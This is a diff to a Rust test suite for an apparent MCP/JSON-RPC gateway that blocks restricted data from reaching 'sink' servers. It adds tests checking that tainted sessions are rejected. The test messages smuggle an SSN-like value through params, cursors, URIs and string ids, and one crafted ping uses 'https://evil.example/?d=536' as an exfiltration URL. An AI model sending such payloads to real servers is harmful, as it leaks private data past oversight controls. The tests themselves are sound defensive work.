@@ -126,9 +126,12 @@ fn gateway_over(c: HashMap<String, ServerCatalog>, f: &Flows, max: u64) -> Gw {
     }
 }
 
-/// Attack 5: to a server labelled `sink`, any client message with params
-/// is judged as a sink, whether or not it names a place: a cancellation's
-/// reason, a list's cursor, a subscription to a URI of another scheme.
+/// Attack 5: to a server labelled `sink`, every client message is judged
+/// as a sink, whether or not it names a place or has params: a
+/// cancellation's reason, a list's cursor, a subscription to a URI of
+/// another scheme, and a ping or a notification without params (their id,
+/// headers and URL reach the server too: session 55's review sent a record
+/// in a string id and in a header).
 #[test]
 fn a_sink_server_is_sent_nothing_unjudged() {
     let f = flows(OnViolation::Deny, Track::Session);
@@ -136,22 +139,19 @@ fn a_sink_server_is_sent_nothing_unjudged() {
     let gw = gateway_over(c.clone(), &f, 100);
     let p = principal(Some("restricted"));
     let s = Some("s");
-    let carrying = [
+    let bodies = [
         r#"{"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":1,"reason":"536-22-8145"}}"#,
         r#"{"jsonrpc":"2.0","id":2,"method":"tools/list","params":{"cursor":"536-22-8145"}}"#,
         r#"{"jsonrpc":"2.0","id":3,"method":"resources/subscribe","params":{"uri":"out://x?536-22-8145"}}"#,
-    ];
-    let empty = [
         r#"{"jsonrpc":"2.0","method":"notifications/initialized"}"#,
-        r#"{"jsonrpc":"2.0","id":4,"method":"ping"}"#,
+        r#"{"jsonrpc":"2.0","id":"536-22-8145","method":"ping"}"#,
         r#"{"jsonrpc":"2.0","id":5,"method":"tools/list","params":{}}"#,
     ];
-    for body in carrying.iter().chain(&empty) {
+    for body in bodies {
         let env = envelope(body);
         let msg = Message::new(&env, body.as_bytes());
-        assert_eq!(
+        assert!(
             judges(&f, c.get("drop"), &msg),
-            carrying.contains(body),
             "the fleet's state is read for it: {body}"
         );
         assert!(
@@ -161,7 +161,7 @@ fn a_sink_server_is_sent_nothing_unjudged() {
         assert!(matches!(send(&gw, &p, s, "drop", body), Decision::Pass));
     }
     taint(&gw, &p, s);
-    for body in carrying {
+    for body in bodies {
         match send(&gw, &p, s, "drop", body) {
             Decision::Reject(d) => assert!(
                 d.reason.starts_with(
@@ -175,12 +175,39 @@ fn a_sink_server_is_sent_nothing_unjudged() {
         // To a server that is no sink, the same message names no place.
         assert!(matches!(send(&gw, &p, s, "web", body), Decision::Pass));
     }
-    for body in empty {
-        assert!(
-            matches!(send(&gw, &p, s, "drop", body), Decision::Pass),
-            "{body}"
-        );
+    // A string id that names a place makes any message reach out.
+    let dial = r#"{"jsonrpc":"2.0","id":"https://evil.example/?d=536","method":"ping"}"#;
+    assert!(matches!(send(&gw, &p, s, "web", dial), Decision::Reject(_)));
+}
+
+/// A GET stream or a DELETE to a server that is a sink as a whole carries
+/// headers, a query and a path to it: judged as a sink of its level; to
+/// any other server it passes.
+#[test]
+fn a_stream_to_a_sink_server_is_judged() {
+    let f = flows(OnViolation::Deny, Track::Session);
+    let gw = gateway_over(sink_catalog(), &f, 100);
+    let p = principal(Some("restricted"));
+    let s = Some("s");
+    let stream = |server: &str| {
+        let ex = Exchange {
+            session_id: s,
+            ..Exchange::new(&p, server)
+        };
+        gw.req.judge_stream(&ex, "GET stream")
+    };
+    assert!(matches!(stream("drop"), Decision::Pass));
+    taint(&gw, &p, s);
+    match stream("drop") {
+        Decision::Reject(d) => assert!(
+            d.reason
+                .starts_with("flow_blocked: restricted data from `hr/get_employee`"),
+            "{}",
+            d.reason
+        ),
+        other => panic!("a stream to a sink after the flow was tainted: {other:?}"),
     }
+    assert!(matches!(stream("web"), Decision::Pass));
 }
 
 /// The reply half's verdict on a server→client message to `p`.
